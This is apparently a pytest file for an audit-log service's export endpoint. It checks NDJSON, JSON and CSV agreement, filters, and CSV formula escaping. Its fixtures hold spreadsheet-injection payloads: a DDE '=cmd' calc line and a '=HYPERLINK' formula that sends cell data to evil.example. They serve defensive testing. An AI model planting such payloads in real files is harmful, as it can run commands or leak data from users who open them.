"""/v1/export in ndjson, json and csv: the same events, CSV round-trips through Python's csv module.

The files are written by ClickHouse (``store.export``); the references here are the
former Python encoders (``row_to_event`` + orjson, and ``csv_record`` below), so the
files read back exactly as they did.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient

from auditstream.api.formats import CSV_COLUMNS, file_extension, media_type
from auditstream.config import Settings
from auditstream.events.stored import row_to_event
from auditstream.store import EventExport, EventFilter, Store
from tests.api._support import (
    FORMULA_PREFIXES,
    auth,
    client_for,
    csv_record,
    event,
    make_settings,
    make_tokens,
    row,
    settings_fixture,
)

pytestmark = pytest.mark.clickhouse

A = "acme"
NOW = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=1)
TRICKY = [
    'comma, "quoted"',
    "line\nbreak\r\nand cr",
    "ünïcödé ✓ \u2028\u2029 a/b </x>",
    "=cmd|' /C calc'!A0",
    "tab\there",
    "",
    "".join(map(chr, range(1, 32))) + "\x7f",
    '\\u001F is text, \\ too "\\u2028"',
]
CHANGE_VALUES = [None, True, False, 0, -7, 1.5, 1.5e300, 1e-7, 12345678901234567890, "", 'x,"y"', "a\x1fb"]


@pytest.fixture(scope="module")
def store(clickhouse_dsn: str, clickhouse_database: str) -> Iterator[Store]:
    s = Store(clickhouse_dsn, clickhouse_database)
    s.open()
    rows = []
    for i in range(60):
        extra: dict[str, Any] = {"actor": {"name": TRICKY[i % len(TRICKY)] or None, "ip": f"10.0.0.{i}"}}
        if i % 3 == 0:
            extra["details"] = {
                "note": TRICKY[i % len(TRICKY)],
                "k": str(i),
                "a/b": TRICKY[(i + 1) % len(TRICKY)],
            }
            extra["resource"] = {"type": "scan", "id": f"scan-{i}"}
        if i % 4 == 0:
            extra["changes"] = [
                {"field": "mode", "old": i, "new": 'x,"y"'},
                {"field": "v", "old": CHANGE_VALUES[i % 12], "new": CHANGE_VALUES[(i + 5) % 12]},
            ]
            extra["outcome"] = "failure"
            extra["reason"] = TRICKY[i % len(TRICKY)] or "x"
            extra["source"] = {"service": "api", "request_id": f"r{i}"}
        rows.append(row(event(A, "config.updated", f"a{i}", NOW - timedelta(minutes=i % 7), **extra), i))
    s.insert_rows(rows)
    s.insert_rows(rows[:5])
    yield s
    s.close()


settings = settings_fixture("export")


@pytest.fixture(scope="module")
def tokens(settings: Settings) -> dict[str, str]:
    return make_tokens(settings, (A, "other"))


@pytest.fixture(scope="module")
def client(settings: Settings, store: Store) -> Iterator[TestClient]:
    yield from client_for(settings, store)


def export(client: TestClient, tokens: dict[str, str], fmt: str, **params: Any) -> bytes:
    r = client.get("/v1/export", params={"format": fmt, **params}, headers=auth(tokens, f"{A}:exporter"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith(media_type(fmt).split(";")[0])
    assert f".{file_extension(fmt)}" in r.headers["content-disposition"]
    return r.content


def cell(text: str) -> str:
    """What the CSV holds for a text value: a formula-looking one gets a leading quote."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def test_ndjson_json_and_csv_agree(client: TestClient, tokens: dict[str, str], store: Store) -> None:
    ndjson = [orjson.loads(line) for line in export(client, tokens, "ndjson").splitlines()]
    assert len(ndjson) == 60 and len({e["event_id"] for e in ndjson}) == 60
    # The ClickHouse-built NDJSON equals the Python row_to_event shape, field for field.
    f = EventFilter(A, since=NOW - timedelta(days=1), until=NOW + timedelta(hours=1))
    python = [row_to_event(r) for chunk in store.iter_events(f) for r in chunk]
    assert ndjson == python
    assert orjson.loads(export(client, tokens, "json")) == ndjson

    text = export(client, tokens, "csv").decode()
    assert text.endswith("\r\n")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == CSV_COLUMNS
    records = list(reader)
    assert records == [csv_record(e) for e in ndjson]
    # And back to values: the flattened columns hold the nested fields.
    by_id = {e["event_id"]: e for e in ndjson}
    for rec in records:
        d = dict(zip(header, rec, strict=True))
        e = by_id[d["event_id"]]
        assert d["actor.name"] == cell(e["actor"].get("name", ""))
        assert d["ingest.offset"] == str(e["ingest"]["offset"])
        assert (orjson.loads(d["details"]) if d["details"] else None) == e.get("details")
        assert (orjson.loads(d["changes"]) if d["changes"] else None) == e.get("changes")
        assert d["reason"] == cell(e.get("reason", ""))


def test_filters_apply_to_every_format(client: TestClient, tokens: dict[str, str]) -> None:
    want = {str(i) for i in range(60) if i % 3 == 0 and i < 8}
    for fmt in ("ndjson", "csv", "json"):
        body = export(client, tokens, fmt, ip="10.0.0.0/29", q="scan-")
        if fmt == "ndjson":
            got = {orjson.loads(line)["actor"]["id"][1:] for line in body.splitlines()}
        elif fmt == "json":
            got = {e["actor"]["id"][1:] for e in orjson.loads(body)}
        else:
            got = {r["actor.id"][1:] for r in csv.DictReader(io.StringIO(body.decode(), newline=""))}
        assert got == want, fmt


def test_empty_and_bad_format(client: TestClient, tokens: dict[str, str]) -> None:
    assert export(client, tokens, "ndjson", q="nothing-matches-this") == b""
    assert orjson.loads(export(client, tokens, "json", q="nothing-matches-this")) == []
    assert export(client, tokens, "csv", q="nothing-matches-this").decode() == ",".join(CSV_COLUMNS) + "\r\n"
    r = client.get("/v1/export", params={"format": "xml"}, headers=auth(tokens, f"{A}:exporter"))
    assert r.status_code == 400 and r.json()["error"]["field"] == "format"
    r = client.get("/v1/export", headers=auth(tokens, "other:exporter"))
    assert r.status_code == 200 and r.content == b""


def test_export_unknown_format(store: Store) -> None:
    with pytest.raises(ValueError):
        EventExport(store, EventFilter(A), "xml")


FORMULAS = {
    "actor.id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "actor.name": "+SUM(1+1)",
    "actor.email": "-2+3@x.example",
    "actor.user_agent": "@SUM(A1)",
    "resource.name": "\tleading tab",
    "reason": "\rleading cr",
}


def test_csv_neutralises_formulas_and_ndjson_keeps_them(client: TestClient, store: Store) -> None:
    # OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading quote.
    at = NOW - timedelta(minutes=30)
    e = event(
        "formulas",
        "user.login",
        FORMULAS["actor.id"],
        at,
        actor={
            "name": FORMULAS["actor.name"],
            "email": FORMULAS["actor.email"],
            "user_agent": FORMULAS["actor.user_agent"],
        },
        resource={"type": "=type", "name": FORMULAS["resource.name"]},
        outcome="failure",
        reason=FORMULAS["reason"],
        details={"cell": "=1+1"},
    )
    safe = event(
        "formulas",
        "user.logout",
        "plain-actor",
        at + timedelta(seconds=1),
        actor={"name": "x=1 inside is fine"},
    )
    store.insert_rows([row(e, 10_000), row(safe, 10_001)])
    token = make_tokens(client.app.state.settings, ("formulas",))["formulas:exporter"]  # type: ignore[attr-defined]
    hdr = {"Authorization": f"Bearer {token}"}
    r = client.get("/v1/export", params={"format": "csv", "order": "asc"}, headers=hdr)
    assert r.status_code == 200, r.text
    records = list(csv.DictReader(io.StringIO(r.content.decode(), newline="")))
    first, second = records
    for column, value in FORMULAS.items():
        assert first[column] == "'" + value, column
    assert first["resource.type"] == "'=type"
    assert orjson.loads(first["details"]) == {"cell": "=1+1"}  # a JSON cell starts with '{'
    assert second["actor.id"] == "plain-actor" and second["actor.name"] == "x=1 inside is fine"
    assert second["ingest.offset"] == "10001"
    # NDJSON and JSON are data, not spreadsheets: untouched.
    r = client.get("/v1/export", params={"format": "ndjson", "order": "asc"}, headers=hdr)
    got = orjson.loads(r.content.splitlines()[0])
    assert got["actor"]["id"] == FORMULAS["actor.id"] and got["reason"] == FORMULAS["reason"]
    r = client.get("/v1/export", params={"format": "json", "order": "asc"}, headers=hdr)
    assert orjson.loads(r.content)[0]["actor"]["name"] == FORMULAS["actor.name"]


def test_read_size_setting_reaches_both_export_paths(
    tmp_path_factory: pytest.TempPathFactory,
    clickhouse_dsn: str,
    clickhouse_database: str,
    store: Store,
    caplog: pytest.LogCaptureFixture,
) -> None:
    from auditstream.store.export import SLICE_BYTES

    assert Settings().export_read_bytes == SLICE_BYTES  # one default
    small = make_settings(tmp_path_factory.mktemp("export-small"), clickhouse_dsn, clickhouse_database)
    small.export_read_bytes = 64 << 10
    tokens = make_tokens(small, (A,))
    for c in client_for(small, store):
        assert c.app.state.export_runner.read_bytes == 64 << 10  # type: ignore[attr-defined]
        with caplog.at_level("INFO", logger="auditstream.api.routes.export"):
            body = export(c, tokens, "ndjson")
    assert body.count(b"\n") == 60
    done = [r for r in caplog.records if r.getMessage() == "export streamed"]
    assert len(done) == 1
    assert (done[0].read_bytes, done[0].rows, done[0].tenant) == (64 << 10, 60, A)  # type: ignore[attr-defined]


@pytest.mark.parametrize("value", ["1000", str(512 << 20), "lots"])
def test_read_size_out_of_bounds_is_refused_naming_it(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    from pydantic import ValidationError

    monkeypatch.setenv("AUDITSTREAM_EXPORT_READ_BYTES", value)
    with pytest.raises(ValidationError, match="export_read_bytes"):
        Settings()
